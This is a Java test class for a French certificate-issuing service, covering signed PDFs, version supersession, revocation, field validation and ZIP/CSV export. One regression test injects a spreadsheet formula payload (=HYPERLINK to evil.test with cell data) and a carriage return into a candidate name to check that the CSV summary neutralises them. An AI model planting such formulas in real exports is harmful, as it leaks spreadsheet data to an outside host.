package fr.titrepro.document;

import fr.titrepro.candidate.Candidate;
import fr.titrepro.document.render.LivretData;
import fr.titrepro.document.signing.SigningKeyProvider;
import fr.titrepro.document.signing.SigningKeyRepository;
import fr.titrepro.document.verification.Verification;
import fr.titrepro.shared.error.ProblemException;
import fr.titrepro.support.DocumentFixtures;
import fr.titrepro.support.PdfText;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

@QuarkusTest
class DocumentServiceTest {

    @Inject
    DocumentFixtures fixtures;

    @Inject
    DocumentService documents;

    @Inject
    IssuedDocuments issued;

    @Inject
    DocumentArchive archive;

    @Inject
    IssuedDocumentRepository repository;

    @Inject
    SigningKeyRepository keys;

    @Test
    void aParcheminIsStoredOnceSignedAndVerifiable() {
        Candidate c = fixtures.newCandidate(null);
        IssuedDocument d = fixtures.issueTriParchemin(c.id, LocalDate.of(2026, 2, 10), "Grenoble");
        assertThat(d.code).matches("[2-9A-HJKMNP-Z]{4}(-[2-9A-HJKMNP-Z]{4}){2}");
        assertThat(d.version).isEqualTo(1);
        assertThat(d.status).isEqualTo(DocumentStatus.VALID);
        assertThat(d.kind).isEqualTo(DocumentKind.PARCHEMIN);
        assertThat(d.outcome).isEqualTo("Titre professionnel obtenu");

        byte[] pdf = QuarkusTransaction.requiringNew().call(() -> issued.pdf(repository.findById(d.id)));
        assertThat(DocumentService.sha256(pdf)).isEqualTo(d.pdfSha256);
        assertThat(SignatureChecks.javaVerdict(pdf)).isEqualTo(SignatureChecks.Verdict.VALID);
        String text = PdfText.text(pdf);
        assertThat(text).contains(d.code, "/verify/" + d.code, "Fait à Grenoble, le 10 février 2026",
                c.identity.firstNames + " " + c.identity.birthName.toUpperCase());
        assertThat(PdfText.qrCode(pdf)).isEqualTo(documents.verificationUrl(d.code));
        // the same bytes on every download: never regenerated
        byte[] again = QuarkusTransaction.requiringNew().call(() -> issued.pdf(repository.findById(d.id)));
        assertThat(again).isEqualTo(pdf);
        // one demo key for the whole platform
        assertThat(QuarkusTransaction.requiringNew().call(() -> keys.count("name", SigningKeyProvider.DEMO_KEY)))
                .isEqualTo(1);
    }

    @Test
    void reissuingTheSameDataChangesNothingOtherDataSupersedesTheValidVersion() {
        Candidate c = fixtures.newCandidate(null);
        fixtures.hold(c.id, "TP-00496", "05", 1, LocalDate.of(2025, 6, 20), "Villeurbanne");
        IssuedDocument v1 = fixtures.issueTriLivret(c.id, LocalDate.of(2025, 6, 20), "Villeurbanne");
        IssuedDocument same = fixtures.issueTriLivret(c.id, LocalDate.of(2025, 6, 20), "Villeurbanne");
        assertThat(same.id).isEqualTo(v1.id);
        assertThat(v1.outcome).contains("CCP 1").contains("titre non complet");

        fixtures.hold(c.id, "TP-00496", "05", 2, LocalDate.of(2026, 3, 12), "Lyon");
        IssuedDocument v2 = fixtures.issueTriLivret(c.id, LocalDate.of(2026, 3, 12), "Lyon");
        assertThat(v2.version).isEqualTo(2);
        assertThat(v2.code).isNotEqualTo(v1.code);

        IssuedDocument old = QuarkusTransaction.requiringNew().call(() -> repository.findById(v1.id));
        assertThat(old.status).isEqualTo(DocumentStatus.SUPERSEDED);
        assertThat(old.supersededAt).isNotNull();
        assertThat(documents.documentsOf(c.id)).extracting(d -> d.version).containsExactly(2, 1);
        String text = PdfText.text(QuarkusTransaction.requiringNew().call(() -> issued.pdf(repository.findById(v2.id))));
        assertThat(text).contains("20 juin 2025 Villeurbanne", "12 mars 2026 Lyon",
                "Tous les CCP du titre sont détenus ; le titre n'a pas été attribué");
    }

    @Test
    void aRevokedDocumentSaysWhyAndCannotBeRevokedTwice() {
        Candidate c = fixtures.newCandidate(null);
        IssuedDocument d = fixtures.issueTriParchemin(c.id, LocalDate.of(2026, 1, 15), "Lille");
        issued.revoke(d.code.toLowerCase(), "  Fraude établie après la session.  ");
        Verification v = issued.verify(d.code);
        assertThat(v.status()).isEqualTo(DocumentStatus.REVOKED);
        assertThat(v.valid()).isFalse();
        assertThat(v.revocationReason()).isEqualTo("Fraude établie après la session.");
        assertThat(v.message()).contains("révoqué");
        assertThatThrownBy(() -> issued.revoke(d.code, "Encore")).isInstanceOf(ProblemException.class)
                .hasMessageContaining("déjà révoqué");
        assertThatThrownBy(() -> issued.revoke(d.code, " ")).isInstanceOf(ProblemException.class)
                .hasMessageContaining("motif");
    }

    @Test
    void missingMandatoryMentionsAreAllListedAndNothingIsIssued() {
        long before = QuarkusTransaction.requiringNew().call(() -> repository.count());
        LivretData incomplete = new LivretData(null,
                new HolderIdentity("Madame", " ", null, "", null, "Paris"),
                DocumentSamples.TRI, List.of(new LivretData.CcpLine(1, "Intervenir sur un réseau IP", null, "", null)),
                List.of(new LivretData.MissingCcp(2, "Autre")), " ", null, null, null, "Paris", null);
        assertThatThrownBy(() -> documents.issueLivret(incomplete)).isInstanceOfSatisfying(ProblemException.class,
                e -> assertThat(e.errors()).extracting(f -> f.field()).contains("candidateId", "holder.birthName",
                        "holder.firstNames", "holder.birthDate", "ccpsHeld[0].obtainedOn", "ccpsHeld[0].place",
                        "completionRule", "issuedOn", "region"));
        assertThat(QuarkusTransaction.requiringNew().call(() -> repository.count())).isEqualTo(before);
    }

    @Test
    void theZipHoldsEveryPdfAsIssuedAndASummary() throws Exception {
        Candidate a = fixtures.newCandidate(null);
        Candidate b = fixtures.newCandidate(null);
        IssuedDocument pa = fixtures.issueTriParchemin(a.id, LocalDate.of(2026, 3, 1), "Rennes");
        IssuedDocument pb = fixtures.issueTriParchemin(b.id, LocalDate.of(2026, 3, 1), "Rennes");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        archive.write(List.of(pa, pb), out);
        Map<String, byte[]> entries = new HashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(out.toByteArray()))) {
            for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
                entries.put(e.getName(), zip.readAllBytes());
            }
        }
        assertThat(entries).hasSize(3).containsKey("sommaire.csv");
        byte[] pdfA = entries.entrySet().stream().filter(e -> e.getKey().endsWith(pa.fileName())).findFirst()
                .orElseThrow().getValue();
        assertThat(DocumentService.sha256(pdfA)).isEqualTo(pa.pdfSha256);
        assertThat(SignatureChecks.javaVerdict(pdfA)).isEqualTo(SignatureChecks.Verdict.VALID);
        String summary = new String(entries.get("sommaire.csv"), StandardCharsets.UTF_8);
        assertThat(summary).contains(pa.code, pb.code, "Parchemin", documents.verificationUrl(pb.code));
    }

    /**
     * Issue 12: the summary was written by hand, a name typed by a centre reached Excel as a formula
     * ({@code =HYPERLINK}) and a carriage return inside it broke the record. Now one cell, neutralised.
     */
    @Test
    void theSummaryNeitherEvaluatesNorBreaksOnAHostileName() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.test/?\"&A1;\"Voir\")";
        Candidate c = fixtures.newCandidateNamed("Martin\rDurand", formula);
        IssuedDocument d = fixtures.issueTriParchemin(c.id, LocalDate.of(2026, 3, 2), "Rennes");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        archive.write(List.of(d), out);
        String summary = null;
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(out.toByteArray()))) {
            for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
                if (e.getName().equals("sommaire.csv")) {
                    summary = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        assertThat(summary).isNotNull();
        var records = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
                .parse(new java.io.StringReader(summary.substring(1))).getRecords();
        assertThat(records).hasSize(2);
        assertThat(records.get(1).get(0)).isEqualTo("'" + formula + " MARTIN\rDURAND");
        assertThat(records.get(1).get(5)).isEqualTo(d.code);
        assertThat(summary).doesNotContain(";=HYPERLINK").doesNotStartWith("\uFEFF=");
    }
}
